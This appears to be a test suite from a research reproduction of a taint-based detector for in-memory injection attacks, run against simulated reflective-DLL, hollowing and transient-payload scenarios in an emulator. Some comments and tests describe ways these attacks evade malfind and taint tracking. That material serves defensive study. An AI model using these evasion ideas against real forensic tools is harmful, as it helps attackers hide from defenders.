"""Smoke tests: every example script must run cleanly end to end."""

import pathlib
import subprocess
import sys

import pytest

EXAMPLES = sorted(
    (pathlib.Path(__file__).parent.parent / "examples").glob("*.py")
)

EXPECTED_MARKERS = {
    "quickstart.py": "IN-MEMORY INJECTION FLAGGED",
    "malware_triage.py": "false-positive rate",
    "attack_forensics.py": "keylogger loot",
    "custom_policy.py": "policy update",
    "baseline_comparison.py": "Cuckoo+malfind",
    "analyze_custom_sample.py": "verdict: clean",
    "snapshot_forensics.py": "cannot beat an analysis",
}


def test_examples_list_is_complete():
    assert {p.name for p in EXAMPLES} == set(EXPECTED_MARKERS)


@pytest.mark.parametrize("script", EXAMPLES, ids=lambda p: p.name)
def test_example_runs_clean(script):
    result = subprocess.run(
        [sys.executable, str(script)],
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert result.returncode == 0, result.stderr[-2000:]
    assert EXPECTED_MARKERS[script.name] in result.stdout
