"""Tests for dlllist and hexdump (the remaining Volatility surface)."""

import pytest

from repro.attacks import build_reflective_dll_scenario
from repro.baselines import CuckooSandbox, dlllist, hexdump

from tests.conftest import register_asm, spawn_asm


@pytest.fixture(scope="module")
def attacked_machine():
    return CuckooSandbox().analyze(build_reflective_dll_scenario().scenario).dump


class TestDllList:
    def test_every_process_lists_its_own_image(self, attacked_machine):
        rows = dlllist(attacked_machine)
        by_proc = {}
        for row in rows:
            by_proc.setdefault(row.process, []).append(row.name)
        assert "notepad.exe" in by_proc["notepad.exe"]

    def test_reflective_stage_absent_from_all_dll_lists(self, attacked_machine):
        # The paper's negative result: the injected DLL is registered
        # nowhere, neither under the injector nor the victim.
        names = {row.name.lower() for row in dlllist(attacked_machine)}
        assert not any("stage" in n or "payload" in n for n in names)

    def test_pid_filter(self, attacked_machine):
        notepad = next(
            p
            for p in attacked_machine.kernel.processes.values()
            if p.name == "notepad.exe"
        )
        rows = dlllist(attacked_machine, pid=notepad.pid)
        assert rows and all(r.pid == notepad.pid for r in rows)

    def test_registered_dll_load_does_appear(self, machine):
        # Contrast case: a loader-registered DLL shows up in dlllist.
        machine.kernel.fs.create("helper.dll", b"\x00" * 16)
        proc = spawn_asm(
            machine,
            "app.exe",
            """
            path: .asciz "helper.dll"
            start:
                movi r1, path
                movi r0, SYS_LOAD_DLL
                syscall
            park:
                movi r1, 1000000
                movi r0, SYS_SLEEP
                syscall
                hlt
            """,
        )
        machine.run(100_000)
        names = [r.name for r in dlllist(machine, pid=proc.pid)]
        assert "helper.dll" in names


class TestHexdump:
    def test_dump_shows_mz_header_of_injected_stage(self, attacked_machine):
        from repro.attacks.common import PAYLOAD_BASE

        notepad = next(
            p
            for p in attacked_machine.kernel.processes.values()
            if p.name == "notepad.exe"
        )
        text = hexdump(attacked_machine, notepad, PAYLOAD_BASE, 32)
        assert text.splitlines()[0].endswith("MZ......" + "." * 8) or "4d 5a" in text

    def test_dump_format(self, attacked_machine):
        notepad = next(
            p
            for p in attacked_machine.kernel.processes.values()
            if p.name == "notepad.exe"
        )
        text = hexdump(attacked_machine, notepad, 0x1000, 16)
        line = text.splitlines()[0]
        assert line.startswith("0x00001000")
        assert len(line.split()) >= 17  # address + 16 byte columns
