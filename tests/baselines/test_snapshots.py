"""Tests for memory snapshots, the snapshot-timing study, and disasm."""

import pytest

from repro.analysis.snapshots import (
    render_snapshot_timing,
    snapshot_timing_experiment,
)
from repro.attacks import build_reflective_dll_scenario
from repro.baselines import MemorySnapshot, malfind, pslist
from repro.faros import Faros


class TestMemorySnapshot:
    @pytest.fixture(scope="class")
    def live_and_snap(self):
        attack = build_reflective_dll_scenario()
        machine = attack.scenario.run()
        return machine, MemorySnapshot.capture(machine)

    def test_snapshot_records_capture_tick(self, live_and_snap):
        machine, snap = live_and_snap
        assert snap.tick == machine.now

    def test_volatility_functions_accept_snapshots(self, live_and_snap):
        machine, snap = live_and_snap
        assert [p.pid for p in pslist(snap)] == [p.pid for p in pslist(machine)]
        live_hits = {(h.pid, h.start) for h in malfind(machine)}
        snap_hits = {(h.pid, h.start) for h in malfind(snap)}
        assert live_hits == snap_hits

    def test_snapshot_is_immune_to_later_execution(self, live_and_snap):
        machine, snap = live_and_snap
        before = [h.preview for h in malfind(snap)]
        machine.run(50_000)  # guest keeps running (parked hosts wake)
        after = [h.preview for h in malfind(snap)]
        assert before == after  # the dump is frozen

    def test_snapshot_memory_matches_capture_content(self, live_and_snap):
        machine, snap = live_and_snap
        from repro.attacks.common import PAYLOAD_BASE
        from repro.isa.cpu import AccessKind

        notepad = next(
            p for p in snap.kernel.processes.values() if p.name == "notepad.exe"
        )
        paddr = notepad.aspace.translate(PAYLOAD_BASE, AccessKind.READ)
        assert snap.memory.read_bytes(paddr, 2) == b"MZ"


class TestSnapshotTiming:
    @pytest.fixture(scope="class")
    def result(self):
        return snapshot_timing_experiment()

    def test_early_dump_catches_resident_payload(self, result):
        assert result.malfind_at_t1
        assert result.t1_code_like

    def test_late_dump_misses_wiped_payload(self, result):
        assert not result.malfind_at_t2

    def test_faros_unaffected_by_dump_timing(self, result):
        assert result.faros_detected

    def test_render(self, result):
        text = render_snapshot_timing(result)
        assert "DETECTS" in text and "misses" in text


class TestDisassembler:
    def test_roundtrip_listing(self):
        from repro.isa.assembler import assemble
        from repro.isa.disasm import disassemble

        prog = assemble("movi r1, 5\nadd r2, r1, r1\nhlt", base=0x100)
        lines = disassemble(prog.code, base=0x100)
        assert [l.text for l in lines] == ["movi r1, 0x5", "add r2, r1, r1", "hlt"]
        assert lines[1].address == 0x108
        assert all(l.valid for l in lines)

    def test_garbage_rendered_as_bytes(self):
        from repro.isa.disasm import disassemble

        lines = disassemble(b"\xee" * 8)
        assert not lines[0].valid and lines[0].text.startswith(".byte")

    def test_trailing_fragment(self):
        from repro.isa.disasm import disassemble

        lines = disassemble(b"\x00" * 8 + b"\x01\x02\x03")
        assert len(lines) == 2 and lines[1].raw == b"\x01\x02\x03"

    def test_max_lines(self):
        from repro.isa.disasm import disassemble

        lines = disassemble(b"\x00" * 80, max_lines=3)
        assert len(lines) == 3

    def test_looks_like_code_heuristic(self):
        from repro.attacks.payloads import build_popup_payload
        from repro.isa.disasm import looks_like_code

        stage = build_popup_payload(0x60000)
        assert looks_like_code(stage.code[8:72])     # real instructions
        assert not looks_like_code(b"\x00" * 64)     # scrubbed memory
        assert not looks_like_code(b"")              # nothing
        assert not looks_like_code(b"Lorem ipsum dolor sit amet, consect. " * 2)

    def test_malfind_hit_listing(self):
        attack = build_reflective_dll_scenario()
        machine = attack.scenario.run()
        hit = next(h for h in malfind(machine) if h.detected)
        listing = hit.listing(max_lines=4)
        assert listing.count("\n") == 3
        assert f"{hit.start:#010x}" in listing
        assert "ld r5" in listing  # the resolver scan is readable
