"""Baseline tests: Cuckoo and Volatility/malfind vs. the attacks (§VI-B).

The reproduction's comparison claims: Cuckoo alone flags none of the
in-memory attacks; Cuckoo+malfind finds persistent payloads (with no
provenance) but misses transient ones; FAROS flags everything.
"""

import pytest

from repro.attacks import (
    build_code_injection_scenario,
    build_process_hollowing_scenario,
    build_reflective_dll_scenario,
)
from repro.baselines import CuckooSandbox, malfind, pslist, vadinfo
from repro.workloads.behaviors import build_sample_scenario


@pytest.fixture(scope="module")
def reflective_report():
    return CuckooSandbox().analyze(build_reflective_dll_scenario().scenario)


@pytest.fixture(scope="module")
def hollowing_report():
    return CuckooSandbox().analyze(build_process_hollowing_scenario().scenario)


@pytest.fixture(scope="module")
def transient_report():
    return CuckooSandbox().analyze(
        build_reflective_dll_scenario(transient=True).scenario
    )


class TestCuckooOnReflectiveDll:
    def test_cuckoo_alone_cannot_flag(self, reflective_report):
        assert reflective_report.detect_injection() is False

    def test_no_dll_trace_in_any_module_list(self, reflective_report):
        # "we failed to identify a trace of our DLL under the DLL list"
        assert reflective_report.registered_dll_loads == []

    def test_cuckoo_sees_the_session_traffic(self, reflective_report):
        assert any(flow[0] == "169.254.26.161" for flow in reflective_report.netflows)

    def test_cuckoo_sees_generic_signatures_only(self, reflective_report):
        names = {s.name for s in reflective_report.signatures}
        assert "writes_remote_memory" in names
        assert "deletes_self" in names

    def test_malfind_detects_persistent_payload(self, reflective_report):
        detected, hits = reflective_report.detect_injection_with_malfind()
        assert detected
        assert any(h.process == "notepad.exe" and h.has_pe_header for h in hits)

    def test_malfind_gives_no_provenance(self, reflective_report):
        _, hits = reflective_report.detect_injection_with_malfind()
        hit = next(h for h in hits if h.detected)
        # The hit knows where the memory is -- and nothing about netflow,
        # injector identity, or byte history.
        fields = set(vars(hit))
        assert "start" in fields and "preview" in fields
        assert not fields & {"netflow", "provenance", "source_process"}


class TestCuckooOnHollowing:
    def test_cuckoo_alone_cannot_flag(self, hollowing_report):
        assert hollowing_report.detect_injection() is False

    def test_pslist_shows_normal_svchost(self, hollowing_report):
        # The hollowed process hides behind its legitimate name.
        names = [p.name for p in hollowing_report.processes]
        assert "svchost.exe" in names

    def test_vadinfo_reveals_the_odd_svchost(self, hollowing_report):
        # The paper's manual analysis: one svchost has a private RWX
        # image-range region instead of a module-backed image.
        machine = hollowing_report.dump
        svchost = next(
            p for p in machine.kernel.processes.values() if p.name == "svchost.exe"
        )
        areas = vadinfo(machine, svchost.pid)
        assert any(a.private and a.module is None and "x" in a.perms for a in areas)

    def test_malfind_detects_replaced_image(self, hollowing_report):
        detected, hits = hollowing_report.detect_injection_with_malfind()
        assert detected
        assert any(h.process == "svchost.exe" for h in hits)


class TestTransientEvasion:
    def test_malfind_misses_wiped_payload(self, transient_report):
        # The stage wiped its MZ header before the dump: malfind's
        # PE-format assumption is violated.
        detected, hits = transient_report.detect_injection_with_malfind()
        assert detected is False
        # The region may still exist, but carries no PE evidence.
        assert all(not h.has_pe_header for h in hits)

    def test_faros_still_flags_the_same_scenario(self):
        from repro.faros import Faros

        attack = build_reflective_dll_scenario(transient=True)
        faros = Faros()
        attack.scenario.run(plugins=[faros])
        assert faros.attack_detected


class TestCuckooOnCodeInjection:
    @pytest.fixture(scope="class")
    def report(self):
        return CuckooSandbox().analyze(build_code_injection_scenario().scenario)

    def test_cuckoo_alone_cannot_flag(self, report):
        assert report.detect_injection() is False

    def test_rat_traffic_visible(self, report):
        assert report.tx_packets > 0

    def test_malfind_finds_the_stage(self, report):
        detected, hits = report.detect_injection_with_malfind()
        assert detected


class TestCuckooOnBenignSample:
    @pytest.fixture(scope="class")
    def report(self):
        scenario = build_sample_scenario(
            "TeamViewer", ("idle", "run", "remote_desktop"), variant=0
        )
        return CuckooSandbox().analyze(scenario)

    def test_no_injection_flag(self, report):
        assert report.detect_injection() is False

    def test_malfind_clean(self, report):
        detected, _ = report.detect_injection_with_malfind()
        assert detected is False

    def test_api_trace_captured(self, report):
        assert any(e.name.startswith("NtGdiBitBlt") for e in report.api_calls)

    def test_pslist_has_the_sample(self, report):
        assert any(p.name == "TeamViewer" for p in report.processes)


class TestCuckooOnDropper:
    """The drop-and-reload attack leaves a brief disk footprint --
    Cuckoo sees the artifacts but still cannot call the injection."""

    @pytest.fixture(scope="class")
    def report(self):
        from repro.attacks import build_drop_reload_scenario

        return CuckooSandbox().analyze(build_drop_reload_scenario().scenario)

    def test_dropped_file_created_then_deleted(self, report):
        assert "C:\\stage.bin" in report.files_created
        assert "C:\\stage.bin" in report.files_deleted

    def test_self_deletion_signature_fires(self, report):
        assert any(s.name == "deletes_self" for s in report.signatures)

    def test_cuckoo_still_cannot_flag_the_injection(self, report):
        assert report.detect_injection() is False

    def test_malfind_finds_the_resident_stage(self, report):
        detected, _ = report.detect_injection_with_malfind()
        assert detected  # stage stays resident in notepad.exe


class TestCuckooRendering:
    def test_render_full_report(self, reflective_report):
        text = reflective_report.render()
        assert "Cuckoo analysis report" in text
        assert "-- processes --" in text
        assert "notepad.exe" in text
        assert "deletes_self" in text
        assert "injection=False" in text
        assert "injection_with_malfind=True" in text

    def test_render_truncates_long_api_trace(self, reflective_report):
        text = reflective_report.render(max_api_rows=3)
        assert "more" in text


class TestVolatilityPrimitives:
    def test_pslist_includes_exited_processes(self):
        report = CuckooSandbox().analyze(build_reflective_dll_scenario().scenario)
        injector = next(
            p for p in report.processes if p.name == "inject_client.exe"
        )
        assert not injector.alive and injector.exit_code == 0

    def test_vadinfo_unknown_pid_raises(self):
        report = CuckooSandbox().analyze(
            build_sample_scenario("x", ("idle",), variant=0)
        )
        with pytest.raises(KeyError):
            vadinfo(report.dump, 99999)

    def test_malfind_skips_module_backed_regions(self):
        report = CuckooSandbox().analyze(
            build_sample_scenario("x", ("idle",), variant=0)
        )
        hits = malfind(report.dump)
        # A plain process has no anonymous executable memory.
        assert hits == []
