"""Fault-injection suite: wedged, crashing, and raising samples must
degrade to ERROR rows while the rest of the batch completes."""

import pytest

from repro.analysis.triage import (
    STATUS_ERROR,
    STATUS_OK,
    TriageJob,
    run_triage,
)


def _pyfunc_job(job_id, target, name=None, **kwargs):
    return TriageJob(
        job_id=job_id,
        name=name or target,
        kind="pyfunc",
        params={"target": f"tests.analysis.triage_fault_jobs:{target}",
                "kwargs": kwargs},
    )


def _batch_around(fault_job, healthy=4):
    """A batch with *fault_job* in the middle of healthy samples."""
    jobs = [_pyfunc_job(i, "ok_job", name=f"ok-{i}", token=1) for i in range(healthy)]
    jobs.insert(healthy // 2, fault_job)
    return [
        TriageJob(job_id=i, name=j.name, kind=j.kind, params=j.params)
        for i, j in enumerate(jobs)
    ]


def _assert_rest_completed(results, error_name):
    for r in results:
        if r.name == error_name:
            assert r.status == STATUS_ERROR
        else:
            assert r.status == STATUS_OK and r.verdict is True, r


class TestRaisingScenario:
    def test_exception_becomes_error_row(self):
        jobs = _batch_around(_pyfunc_job(0, "raising_job"))
        results = run_triage(jobs, jobs=2)
        _assert_rest_completed(results, "raising_job")
        [error_row] = [r for r in results if r.status == STATUS_ERROR]
        assert error_row.error == "ValueError: scenario exploded"
        assert error_row.attempts == 1  # exceptions are not retried

    def test_serial_path_degrades_identically(self):
        jobs = _batch_around(_pyfunc_job(0, "raising_job"))
        serial = run_triage(jobs, jobs=1)
        parallel = run_triage(jobs, jobs=2)
        assert [(r.name, r.status, r.verdict, r.error) for r in serial] == [
            (r.name, r.status, r.verdict, r.error) for r in parallel
        ]


class TestTimeout:
    def test_busy_loop_is_killed_and_reported(self):
        jobs = _batch_around(_pyfunc_job(0, "busy_loop_job"))
        results = run_triage(jobs, jobs=2, timeout=1.0)
        _assert_rest_completed(results, "busy_loop_job")
        [error_row] = [r for r in results if r.status == STATUS_ERROR]
        assert "timeout" in error_row.error
        assert "1s wall clock" in error_row.error

    def test_slow_but_finite_job_survives_generous_timeout(self):
        jobs = [_pyfunc_job(0, "slow_job", seconds=0.2),
                _pyfunc_job(1, "ok_job", token=1)]
        results = run_triage(jobs, jobs=2, timeout=30.0)
        assert all(r.status == STATUS_OK for r in results)


class TestWorkerCrash:
    def test_persistent_crasher_hits_retry_cap(self):
        jobs = _batch_around(_pyfunc_job(0, "selfkill_job"))
        results = run_triage(jobs, jobs=2, max_retries=1)
        _assert_rest_completed(results, "selfkill_job")
        [error_row] = [r for r in results if r.status == STATUS_ERROR]
        assert "worker died" in error_row.error
        assert error_row.attempts == 2  # initial run + one (capped) retry
        assert "attempt 2/2" in error_row.error

    def test_crash_once_succeeds_on_retry(self, tmp_path):
        marker = tmp_path / "first-attempt"
        jobs = _batch_around(
            _pyfunc_job(0, "crash_once_job", marker=str(marker))
        )
        results = run_triage(jobs, jobs=2, max_retries=1)
        assert all(r.status == STATUS_OK for r in results)
        [retried] = [r for r in results if r.name == "crash_once_job"]
        assert retried.attempts == 2  # the retry counter was exercised
        assert retried.verdict is True
        assert marker.exists()

    def test_zero_retries_fails_on_first_crash(self):
        jobs = _batch_around(_pyfunc_job(0, "selfkill_job"))
        results = run_triage(jobs, jobs=2, max_retries=0)
        [error_row] = [r for r in results if r.status == STATUS_ERROR]
        assert error_row.attempts == 1
        assert "attempt 1/1" in error_row.error
        _assert_rest_completed(results, "selfkill_job")
