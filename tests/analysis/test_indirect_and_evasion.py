"""Tests for E11 (indirect flows) and E12 (evasion) experiments."""

import pytest

from repro.analysis.evasion import (
    TagPressureResult,
    tag_pressure_experiment,
    taint_laundering_experiment,
)
from repro.analysis.indirect_flows import (
    IndirectFlowResult,
    indirect_flow_experiment,
    render_indirect_flow_table,
)


class TestIndirectFlows:
    @pytest.fixture(scope="class")
    def results(self):
        return indirect_flow_experiment()

    def by(self, results, figure, policy):
        return next(r for r in results if r.figure == figure and r.policy == policy)

    def test_six_cells(self, results):
        assert len(results) == 6

    def test_programs_always_compute_correctly(self, results):
        # The copies are value-exact regardless of taint policy.
        assert all(r.output_value_correct for r in results)

    def test_direct_only_undertaints_both_figures(self, results):
        assert not self.by(results, "fig1-address-dep", "direct-only").output_tainted
        assert not self.by(results, "fig2-control-dep", "direct-only").output_tainted

    def test_address_deps_catch_fig1_only(self, results):
        assert self.by(results, "fig1-address-dep", "address-deps").output_tainted
        assert not self.by(results, "fig2-control-dep", "address-deps").output_tainted

    def test_all_indirect_catches_both(self, results):
        assert self.by(results, "fig1-address-dep", "all-indirect").output_tainted
        assert self.by(results, "fig2-control-dep", "all-indirect").output_tainted

    def test_indirect_policies_taint_more_bytes(self, results):
        # The overtainting cost: more shadow bytes than the true flow.
        direct = self.by(results, "fig1-address-dep", "direct-only").tainted_bytes
        addr = self.by(results, "fig1-address-dep", "address-deps").tainted_bytes
        assert addr > direct

    def test_render(self, results):
        text = render_indirect_flow_table(results)
        assert "fig1-address-dep" in text and "all-indirect" in text


class TestLaunderingEvasion:
    @pytest.fixture(scope="class")
    def result(self):
        return taint_laundering_experiment()

    def test_stage_really_ran(self, result):
        assert result.stage_ran

    def test_default_policy_is_evaded(self, result):
        # The paper's §VI-D admission, reproduced.
        assert result.default_policy_detected is False

    def test_control_dep_policy_catches_it(self, result):
        # ... and the policy-update answer (§VI-B), reproduced.
        assert result.control_dep_policy_detected is True


class TestTagPressure:
    def test_maps_grow_with_guest_activity(self):
        small = tag_pressure_experiment(file_rounds=5, flows=3)
        large = tag_pressure_experiment(file_rounds=25, flows=10)
        assert large.file_tags > small.file_tags
        assert large.netflow_tags > small.netflow_tags

    def test_file_versions_mint_distinct_tags(self):
        result = tag_pressure_experiment(file_rounds=10, flows=0)
        # create + 10 writes -> at least 10 distinct (path, version) tags.
        assert result.file_tags >= 10

    def test_utilisation_metric(self):
        result = tag_pressure_experiment(file_rounds=5, flows=0)
        assert 0 < result.file_map_utilisation < 1
        assert result.map_capacity == 65536
