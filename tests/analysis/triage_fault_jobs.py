"""Fault-injection job targets for the triage-engine tests.

These run inside triage workers via the ``pyfunc`` job kind, so they
live in an importable module (not a test file) and take only picklable
kwargs.  Each one simulates a distinct production failure mode.
"""

from __future__ import annotations

import os
import pathlib
import signal
import time


def ok_job(token: int = 0) -> bool:
    """A well-behaved sample: verdict is 'flagged' for odd tokens."""
    return token % 2 == 1


def slow_job(seconds: float = 0.2) -> bool:
    """A sample that takes a while but finishes (must NOT time out)."""
    time.sleep(seconds)
    return False


def raising_job() -> bool:
    """A scenario that blows up inside the analysis."""
    raise ValueError("scenario exploded")


def busy_loop_job() -> bool:
    """A wedged sample: spins forever, must be killed by the timeout."""
    while True:  # pragma: no cover - the worker is SIGKILLed mid-spin
        pass


def spinning_machine_job() -> bool:
    """A wedged *guest*: the emulated machine spins forever, publishing
    watchdog progress each scheduler slice, until the pool's wall-clock
    timeout kills the worker.  The parent's timeout FaultRecord must
    then carry the machine's last-known position."""
    from repro.emulator.machine import Machine, MachineConfig
    from repro.guestos import layout
    from repro.guestos.asmlib import program
    from repro.isa.assembler import assemble

    machine = Machine(MachineConfig())
    spin = "start:\n    movi r7, 0\nloop:\n    addi r7, r7, 1\n    jmp loop"
    machine.kernel.register_image(
        "spin.exe", assemble(program(spin), base=layout.IMAGE_BASE)
    )
    machine.kernel.spawn("spin.exe")
    while True:  # pragma: no cover - the worker is SIGKILLed mid-run
        machine.run(max_instructions=10_000_000)


def selfkill_job() -> bool:
    """A worker death: the process dies without reporting a result."""
    os.kill(os.getpid(), signal.SIGKILL)
    return True  # pragma: no cover - never reached


def crash_once_job(marker: str) -> bool:
    """Crashes the worker on the first attempt, succeeds on the retry
    (the *marker* file records that the first attempt happened)."""
    path = pathlib.Path(marker)
    if path.exists():
        return True
    path.write_text("first attempt crashed")
    os.kill(os.getpid(), signal.SIGKILL)
    return False  # pragma: no cover - never reached
