"""Tests for the experiment harness (shapes of every paper artifact)."""

import pytest

from repro.analysis.experiments import (
    ATTACK_BUILDERS,
    OVERHEAD_APPS,
    comparison_matrix,
    corpus_fp_experiment,
    detection_suite,
    fp_rate,
    jit_fp_experiment,
    overhead_experiment,
    run_attack_analysis,
    table2_output,
)
from repro.analysis.tables import (
    render_comparison_matrix,
    render_detection_suite,
    render_table3,
    render_table4,
    render_table5,
)


class TestDetectionSuite:
    @pytest.fixture(scope="class")
    def results(self):
        return detection_suite()

    def test_six_attacks(self, results):
        assert len(results) == 6
        assert {r.name for r in results} == {name for name, _ in ATTACK_BUILDERS}

    def test_all_detected(self, results):
        assert all(r.detected for r in results)

    def test_hollowing_chain_has_no_netflow(self, results):
        hollow = next(r for r in results if r.name == "process_hollowing")
        assert hollow.chain.netflow is None

    def test_network_attacks_have_netflow(self, results):
        for r in results:
            if r.name != "process_hollowing":
                assert r.chain.netflow is not None, r.name

    def test_render(self, results):
        text = render_detection_suite(results)
        assert "TOTAL: 6/6 flagged" in text


class TestTable2:
    def test_output_contains_required_forensics(self):
        text = table2_output()
        # Paper Table II: memory addresses + provenance lists.
        assert "Memory Address" in text
        assert "NetFlow:" in text and "->Process:" in text


class TestJitExperiment:
    @pytest.fixture(scope="class")
    def results(self):
        return jit_fp_experiment()

    def test_twenty_workloads(self, results):
        assert len(results) == 20

    def test_two_flagged_both_applets(self, results):
        flagged = [r for r in results if r.flagged]
        assert len(flagged) == 2
        assert all(r.kind == "applet" for r in flagged)

    def test_flags_match_native_binding_ground_truth(self, results):
        for r in results:
            assert r.flagged == r.expected_flag, r.name

    def test_render_table3(self, results):
        text = render_table3(results)
        assert "acceleration" in text and "gmail.com" in text
        assert "2/20" in text


class TestCorpusExperiment:
    @pytest.fixture(scope="class")
    def results(self):
        # One variant per family keeps the unit test quick; the bench
        # runs the full 104.
        return corpus_fp_experiment(limit=21)

    def test_no_false_positives(self, results):
        assert all(not r.flagged for r in results)

    def test_all_samples_completed(self, results):
        assert all(r.exit_code == 0 for r in results)

    def test_render_table4(self, results):
        text = render_table4(results)
        assert "Pandora v2.2" in text
        assert "false positives: 0 (0.0%)" in text


class TestOverheadExperiment:
    @pytest.fixture(scope="class")
    def rows(self):
        return overhead_experiment(repeat=1)

    def test_six_applications(self, rows):
        assert [r.application for r in rows] == [name for name, _ in OVERHEAD_APPS]

    def test_faros_always_slower(self, rows):
        for row in rows:
            assert row.slowdown > 1.0, row.application

    def test_instructions_counted(self, rows):
        assert all(row.instructions > 0 for row in rows)

    def test_render_table5(self, rows):
        text = render_table5(rows)
        assert "average slowdown" in text and "Skype" in text


class TestComparisonMatrix:
    @pytest.fixture(scope="class")
    def rows(self):
        return comparison_matrix(include_transient=True)

    def test_faros_detects_everything(self, rows):
        assert all(r.faros_detects for r in rows)

    def test_cuckoo_alone_detects_nothing(self, rows):
        assert all(not r.cuckoo_detects for r in rows)

    def test_malfind_detects_only_persistent(self, rows):
        for r in rows:
            assert r.malfind_detects == (not r.transient), r

    def test_only_faros_has_provenance(self, rows):
        assert all(r.faros_has_provenance for r in rows)

    def test_render(self, rows):
        text = render_comparison_matrix(rows)
        assert "Cuckoo+malfind" in text


class TestMetrics:
    def test_fp_rate(self):
        assert fp_rate(2, 100) == 2.0
        assert fp_rate(0, 104) == 0.0
        assert fp_rate(0, 0) == 0.0
