"""Tests for the Fig. 4 byte-lifecycle experiment."""

import pytest

from repro.analysis.lifecycle import (
    byte_lifecycle_experiment,
    render_lifecycle,
)


@pytest.fixture(scope="module")
def result():
    return byte_lifecycle_experiment()


class TestFig4Lifecycle:
    def test_payload_reaches_the_consumer_intact(self, result):
        assert result.payload_intact

    def test_broker_chronology_is_netflow_p1_p2_file(self, result):
        chron = result.broker_chronology
        assert chron[0].startswith("NetFlow:")
        assert "courier.exe" in chron[1]
        assert "broker.exe" in chron[2]
        assert any("file1.dat" in entry for entry in chron)

    def test_chronology_order_matches_history(self, result):
        # Origin first: the netflow precedes every process that touched it,
        # and the courier touched the bytes before the broker.
        chron = result.broker_chronology
        courier_idx = next(i for i, e in enumerate(chron) if "courier.exe" in e)
        broker_idx = next(i for i, e in enumerate(chron) if "broker.exe" in e)
        assert 0 < courier_idx < broker_idx

    def test_consumer_sees_file_then_itself(self, result):
        chron = result.consumer_chronology
        assert chron[0].startswith("File:")
        assert any("consumer.exe" in entry for entry in chron)
        # The disk hop means NO direct netflow on the consumer's bytes.
        assert not any(entry.startswith("NetFlow") for entry in chron)

    def test_stitched_river_is_the_full_fig4_chain(self, result):
        river = " -> ".join(result.stitched_river)
        for waypoint in ("NetFlow", "courier.exe", "broker.exe", "file1.dat",
                         "consumer.exe"):
            assert waypoint in river
        # And in the figure's order.
        positions = [river.index(w) for w in
                     ("NetFlow", "courier.exe", "broker.exe", "consumer.exe")]
        assert positions == sorted(positions)

    def test_render(self, result):
        text = render_lifecycle(result)
        assert "stitched river" in text and "NetFlow" in text
