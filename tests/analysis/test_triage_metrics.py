"""Per-job observability through the triage engine's worker channel.

The acceptance bar: a ``--metrics`` triage run must carry each job's
snapshot through the (pickle/JSON) worker channel intact, and the
numbers in the job's report export must be the same object's numbers --
``repro stats`` and the triage JSON export may never disagree.
"""

import json

from repro.analysis.triage import (
    STATUS_OK,
    TriageResult,
    attack_jobs,
    execute_job,
    run_triage,
)

#: Snapshot keys that are deterministic functions of the guest execution
#: (wall-clock spans and absolute interner cache sizes are not -- the
#: process-wide interner may be pre-warmed by earlier in-process runs).
_DETERMINISTIC_GAUGES = (
    "taint.instructions",
    "taint.fast_retirements",
    "taint.slow_retirements",
    "taint.interner.hits",
    "taint.interner.misses",
    "taint.shadow.tainted_bytes",
    "taint.shadow.dirty_pages",
    "machine.instructions",
)


class TestMetricsThroughWorkers:
    def test_snapshot_survives_the_worker_round_trip(self):
        [result] = run_triage(
            attack_jobs(["code_injection"], metrics=True), jobs=2
        )
        assert result.status == STATUS_OK and result.verdict is True
        snap = result.metrics
        assert set(snap) >= {"counters", "gauges", "histograms",
                             "spans", "hot_blocks"}
        assert snap["counters"]["faros.detector.flags"] > 0
        assert snap["gauges"]["taint.slow_retirements"] > 0
        assert [s["name"] for s in snap["spans"]] == [
            "boot", "attack", "detection", "report",
        ]
        assert snap["hot_blocks"]["top"]

    def test_report_and_outcome_carry_the_same_numbers(self):
        [result] = run_triage(
            attack_jobs(["code_injection"], metrics=True), jobs=2
        )
        assert result.report["metrics"] == result.metrics

    def test_worker_numbers_match_in_process_numbers(self):
        jobs = attack_jobs(["code_injection"], metrics=True)
        [in_process] = run_triage(jobs, jobs=1)
        [via_worker] = run_triage(jobs, jobs=2)
        for name in _DETERMINISTIC_GAUGES:
            assert in_process.metrics["gauges"][name] == \
                via_worker.metrics["gauges"][name], name
        assert in_process.metrics["counters"] == via_worker.metrics["counters"]
        assert in_process.metrics["hot_blocks"]["top"] == \
            via_worker.metrics["hot_blocks"]["top"]

    def test_metrics_round_trip_through_json(self):
        [job] = attack_jobs(["code_injection"], metrics=True)
        result = execute_job(job)
        clone = TriageResult.from_json_dict(
            json.loads(json.dumps(result.to_json_dict()))
        )
        assert clone == result
        assert clone.metrics == result.metrics


class TestMetricsStayOptIn:
    def test_plain_jobs_carry_no_snapshot(self):
        [result] = run_triage(attack_jobs(["code_injection"]), jobs=1)
        assert result.metrics is None
        assert result.report["metrics"] is None

    def test_plain_job_params_are_unchanged(self):
        # metrics=False must not even add the key, so pre-observability
        # job descriptors stay byte-identical on the wire.
        [job] = attack_jobs(["code_injection"])
        assert "metrics" not in job.params
