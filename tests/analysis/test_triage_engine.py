"""Unit tests for the batch-triage engine's job model and serial path."""

import json

import pytest

from repro.analysis.triage import (
    STATUS_ERROR,
    STATUS_OK,
    TriageJob,
    TriageResult,
    attack_jobs,
    corpus_jobs,
    execute_job,
    jit_jobs,
    run_triage,
)
from repro.analysis.experiments import select_corpus_samples


def _pyfunc_job(job_id, target, name="fault", **kwargs):
    return TriageJob(
        job_id=job_id,
        name=name,
        kind="pyfunc",
        params={"target": f"tests.analysis.triage_fault_jobs:{target}",
                "kwargs": kwargs},
    )


class TestExecuteJob:
    def test_corpus_job_ok(self):
        spec = select_corpus_samples(limit=1)[0]
        [job] = corpus_jobs([spec])
        result = execute_job(job)
        assert result.status == STATUS_OK
        assert result.verdict is False          # Table IV: no false positives
        assert result.exit_code == 0
        assert result.error is None
        assert result.instructions > 0
        assert result.duration_s > 0.0
        assert result.extra["family"] == spec.family

    def test_attack_job_carries_report_and_chains(self):
        [job] = attack_jobs(["reflective_dll_inject"])
        result = execute_job(job)
        assert result.status == STATUS_OK and result.verdict is True
        assert result.report["attack_detected"] is True
        [chain] = result.chains()[:1]
        assert chain.netflow.startswith("169.254.26.161:4444")
        assert chain.process_chain == ["inject_client.exe", "notepad.exe"]

    def test_unknown_kind_is_error_row(self):
        job = TriageJob(job_id=0, name="mystery", kind="no-such-kind")
        result = execute_job(job)
        assert result.status == STATUS_ERROR
        assert result.verdict is False
        assert "no-such-kind" in result.error

    def test_runner_exception_is_error_row(self):
        result = execute_job(_pyfunc_job(0, "raising_job"))
        assert result.status == STATUS_ERROR
        assert result.error == "ValueError: scenario exploded"


class TestResultSerialization:
    def test_round_trip_preserves_everything(self):
        [job] = jit_jobs([("acceleration", "applet")])
